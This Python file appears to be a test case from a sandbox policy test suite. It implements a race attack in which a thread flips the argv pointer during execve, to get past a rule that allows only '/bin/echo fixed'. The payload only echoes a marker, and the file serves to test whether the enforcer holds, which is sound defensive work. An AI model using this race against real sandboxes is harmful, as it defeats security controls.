# SPDX-License-Identifier: Apache-2.0
# attack: a thread changes the pointer to an argument while a named program is executed with what is granted
# class: race
# wins: effect
# policy: exec: [{path: /bin/echo, argv: [fixed]}]
# needs: race
from kit import *

texts = page()
ctypes.memmove(texts, b'fixed\0', 6)
ctypes.memmove(texts + 64, b'EFFECT ' + NONCE.encode() + b'\0', 8 + len(NONCE))
name = ctypes.create_string_buffer(b'echo')
argv = (ctypes.c_void_p * 3)(ctypes.addressof(name), texts, None)
env = (ctypes.c_char_p * 1)(None)
tried()


def one(i):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.dup2(w, 1)
        Flipper(ctypes.addressof(argv) + 8, 64)
        for n in range(50):
            sc('execve', b'/bin/echo', argv, env)
        os._exit(0)
    os.close(w)
    said = os.read(r, 100)
    os.close(r)
    os.waitpid(pid, 0)
    if said.startswith(b'EFFECT'):
        effect(said)
        return True
    return not NATIVE and i >= 16


rounds(one)
